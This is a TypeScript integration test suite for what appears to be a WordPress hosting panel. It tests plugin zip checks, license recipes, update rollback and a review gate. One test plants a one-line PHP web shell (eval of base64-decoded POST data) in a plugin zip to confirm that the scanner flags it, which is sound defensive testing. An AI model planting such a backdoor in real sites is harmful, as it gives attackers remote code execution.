import assert from 'node:assert/strict'
import { after, before, describe, it } from 'node:test'
import { pluginZipCheck } from '#features/catalog/check/plugin.zip-check.ts'
import { serverSyncPlugins } from '#features/catalog/sync/server.sync-plugins.ts'
import { listFiles, listZips } from '#features/catalog/zip-store.ts'
import type { TaskItem, TaskReport } from '#features/wordpress/tasks/contract.ts'
import type { Job } from '#platform/contract/job.ts'
import { plugin } from '#test/support/breaking-plugins.ts'
import { endedOn, logOn } from '#test/support/drive-panel.ts'
import { exerciseJob, variantsOf } from '#test/support/job-kit.ts'
import { type LicenseServer, licensedPlugin, startLicenseServer } from '#test/support/license-server.ts'
import { type SiteHouse, siteHouse } from '#test/support/site-house.ts'
import { uploadPlugin } from '#test/support/upload-plugin.ts'
import { WordpressPerson } from '#test/support/wordpress-person.ts'
import { wpRecipes } from './run/wp.recipes.ts'

const SLUG = 'shop'
const JOB_MS = 5 * 60_000
const KEY = "LICENSE-'4711'/canary"

describe('premium plugins: from a zip to a licensed site', { timeout: 20 * 60_000 }, () => {
  let house: SiteHouse
  let licenses: LicenseServer
  let recipeId: string
  const params = { slug: SLUG }
  const api = () => house.panel.as('full')
  const db = () => house.panel.foundation.database.db
  const server = () => house.servers[0] ?? assert.fail()
  const person = () => new WordpressPerson(server().address, `http://${SLUG}.${server().name}.localhost`)
  const ended = async (job: Job) => endedOn(house.panel, job, JOB_MS)
  const inSite = async (script: string) =>
    (await server().exec(['docker', 'exec', `fleetpress-site-${SLUG}`, 'sh', '-euc', script])).stdout
  /** Waits until its zip is on the server, too. */
  const upload = async (version: string, code = '') => {
    const address = `http://${server().address.replace(/\d+$/, '1')}:${licenses.port}`
    const { plugin: made, job } = await uploadPlugin(house.panel, licensedPlugin(version, address, code))
    await house.succeeded(job.id)
    await synced()
    return made.id
  }
  const synced = async () => {
    const { items } = await api().jobList({ query: { type: 'server.syncPlugins', limit: 1 } })
    if (items[0]) await house.succeeded(items[0].id)
  }
  const files = async () => (await server().exec(['ls', '/srv/fleetpress/plugins'])).stdout.split('\n').filter(Boolean)
  const license = async () => (await api().wpRecipes({ params })).items[0] ?? assert.fail()
  const apply = async (hook: 'afterInstall' | 'verify') =>
    ended((await house.panel.as('manage').wpRecipesApply({ params, body: { recipeId, hook } })).job)

  before(async () => {
    licenses = await startLicenseServer(KEY)
    const types = [...variantsOf(pluginZipCheck), ...variantsOf(serverSyncPlugins), ...variantsOf(wpRecipes)]
    house = await siteHouse(1, { extraJobs: types })
  })
  after(async () => {
    await house?.[Symbol.asyncDispose]()
    licenses?.close()
  })

  it('pluginUpload: the check hashes every file, and the zip is brought to the server once', async () => {
    const id = await upload('1.0')
    const { check, findings } = await api().pluginCheck({ params: { id } })
    assert.deepEqual([check?.status, check?.files, check?.problem, findings], ['clean', 2, null, []])
    const [zip] = await listZips(db(), id)
    assert.deepEqual([...(await listFiles(db(), zip?.id ?? '')).keys()].toSorted(), ['acme.php', 'lib/part.php'])
    assert.deepEqual(await files(), [`${zip?.sha256}.frames`])
    assert.equal((await server().exec(['ls', '/srv/fleetpress/zip-checks'])).stdout, '')
    assert.equal((await server().exec(['docker', 'ps', '-aq', '--filter', 'name=fleetpress-zip-check'])).stdout, '')
    await api().pluginUpdate({ params: { id }, body: { isDefault: true } })
  })

  it('siteCreate: a new site gets the defaults of the catalog, and is licensed by their recipe', async () => {
    const [{ id: pluginId } = assert.fail()] = (await api().pluginList()).items
    const read = { kind: 'rest' as const, route: '/acme/v1/license' }
    const recipe = await api().recipeCreate({
      body: {
        name: 'Acme license',
        pluginId,
        inputs: [
          { name: 'key', label: 'License key', secret: true },
          { name: 'channel', label: 'Channel' },
        ],
        hooks: {
          afterInstall: [
            { kind: 'option', option: 'acme', path: ['license', 'key'], value: { $input: 'key' } },
            { kind: 'option', option: 'acme', path: ['kept'], value: [1, { a: true }] },
            { kind: 'constant', name: 'ACME_CHANNEL', value: { $input: 'channel' } },
            { kind: 'wp-cli', args: ['option', 'update', 'acme_copy', '--prompt=value'], stdin: [{ $input: 'key' }] },
            { kind: 'rest', method: 'POST', route: '/acme/v1/license' },
            {
              kind: 'wait-until',
              read: { kind: 'wp-cli', args: ['option', 'get', 'acme_copy'] },
              value: { $input: 'key' },
            },
          ],
          verify: [
            { kind: 'expect', read, path: ['status'], operator: 'differs', value: 'expired', otherwise: 'expired' },
            { kind: 'expect', read, path: ['status'], value: 'valid' },
          ],
        },
      },
    })
    recipeId = recipe.id
    await api().recipeInputs({ params: { id: recipeId }, body: { values: { key: KEY, channel: "st'able" } } })
    await house.create(SLUG)
    assert.match((await person().ask('/')).text, /<!-- acme 1\.0 -->/)
    const { status, message, installed } = await license()
    assert.deepEqual([status, message, installed], ['valid', null, true])
    assert.equal(licenses.seats.size, 1)
    assert.equal((await inSite('wp eval "echo ACME_CHANNEL;"')).trim(), "st'able")
    assert.deepEqual(JSON.parse(await inSite('wp option get acme --format=json')), {
      license: { key: KEY },
      kept: [1, { a: true }],
    })
  })

  it('wpRecipesApply: verify finds a license that was revoked or has expired, and no secret is told', async () => {
    licenses.status = 'revoked'
    assert.equal((await apply('verify')).status, 'succeeded')
    const revoked = await license()
    assert.equal(revoked.status, 'invalid')
    assert.match(revoked.message ?? '', /revoked.*\[secret\]/)
    assert.equal((await house.panel.as('read-only').wpRecipes({ params })).items[0]?.message, null)
    licenses.status = 'expired'
    const failed = await apply('afterInstall')
    assert.deepEqual([failed.status, failed.error?.code], ['failed', 'recipe_failed'])
    assert.equal((await license()).status, 'expired')
    licenses.status = 'valid'
    licenses.delayMs = 3_000
    assert.equal((await apply('afterInstall')).status, 'succeeded')
    licenses.delayMs = 0
    assert.equal((await license()).status, 'valid')
    const { items } = await api().jobList({ query: { siteSlug: SLUG } })
    const told = await Promise.all(items.map(job => logOn(house.panel, job)))
    const rows = await Promise.all([
      db().selectFrom('job').selectAll().execute(),
      db().selectFrom('job_log').selectAll().execute(),
      db().selectFrom('site_license').selectAll().execute(),
      db().selectFrom('recipe_value').selectAll().execute(),
    ])
    assert.ok(!JSON.stringify([told, rows, items]).includes('canary'))
  })

  it('wpPluginUpdate: a newer zip is an update of the site, and a broken one is rolled back', async () => {
    await upload('1.1')
    const status = await api().wpStatus({ params })
    assert.equal(status.plugins.find(({ name }) => name === 'acme')?.update?.version, '1.1')
    await house.succeeded((await api().wpPluginUpdate({ params: { ...params, name: 'acme' } })).job.id)
    assert.match((await person().ask('/')).text, /<!-- acme 1\.1 -->/)
    await upload('1.2', "throw new Error('broken on purpose');")
    const ops = [{ kind: 'plugin' as const, slug: 'acme', action: 'update' as const }]
    const job = await ended((await api().wpBulk({ params, body: { ops } })).job)
    const [item] = (job.result as TaskReport).items as [TaskItem]
    assert.deepEqual([item.fate, item.from, item.to], ['rolled-back', '1.1', '1.2'], await logOn(house.panel, job))
    assert.match((await person().ask('/')).text, /<!-- acme 1\.1 -->/)
  })

  it('pluginReview: a zip with a planted web shell is flagged, and not installable until someone has looked at it', async () => {
    const planted = plugin('gallery', '1.0')
    const files = { ...planted.files, 'lib/cache.php': '<?php @eval(base64_decode($_POST["z"]));\n' }
    const { plugin: made, job } = await uploadPlugin(house.panel, { ...planted, files })
    await house.succeeded(job.id)
    const { check, findings } = await api().pluginCheck({ params: { id: made.id } })
    assert.deepEqual([check?.status, check?.needsReview], ['flagged', true])
    assert.ok(
      findings.some(({ path }) => path === 'lib/cache.php'),
      JSON.stringify(findings),
    )
    const body = { source: { kind: 'catalog' as const, id: made.id }, activate: false }
    await assert.rejects(api().wpPluginInstall({ params, body }), { code: 'conflict' })
    await api().pluginReview({ params: { id: made.id } })
    await synced()
    await house.succeeded((await api().wpPluginInstall({ params, body })).job.id)
    assert.match(await inSite('ls wp-content/plugins'), /^gallery$/m)
    await house.succeeded((await api().wpPluginDelete({ params: { ...params, name: 'gallery' } })).job.id)
    await api().pluginDelete({ params: { id: made.id } })
    await synced()
  })

  it('a zip that lies about its content fails its check and is not installable', async () => {
    const { plugin: made, job } = await uploadPlugin(house.panel, { ...plugin('forged', '1.0'), isCorrupt: true })
    await house.succeeded(job.id)
    const { check } = await api().pluginCheck({ params: { id: made.id } })
    assert.equal(check?.status, 'failed')
    assert.match(check?.problem ?? '', /content is not what it says/)
    const body = { source: { kind: 'catalog' as const, id: made.id } }
    await assert.rejects(api().wpPluginInstall({ params, body }), { code: 'conflict' })
    await api().pluginDelete({ params: { id: made.id } })
    await synced()
  })

  it('plugin.zipCheck, server.syncPlugins, wp.recipes: done twice or undone, all is as it should be', async () => {
    const [zip] = await listZips(db())
    const look = async () => {
      const known = (await listZips(db())).map(({ status, files: count, is_checking }) => [status, count, is_checking])
      return [known, await files(), (await server().exec(['ls', '/srv/fleetpress/zip-checks'])).stdout]
    }
    const [serverId = 0] = house.ids
    const common = { look, panel: house.panel, limitMs: JOB_MS }
    const input = { zipId: zip?.id ?? '', serverId }
    await exerciseJob('sqlite', pluginZipCheck, { ...common, prepare: async () => input })
    await exerciseJob('sqlite', serverSyncPlugins, { ...common, prepare: async () => ({ serverId }) })
    await exerciseJob('sqlite', wpRecipes, {
      ...common,
      prepare: async () => ({ ...params, serverId, recipeIds: [recipeId], hook: 'afterInstall' }),
      look: async () => [
        (await license()).status,
        [...licenses.seats],
        await inSite('wp option get acme --format=json'),
      ],
    })
  })
})
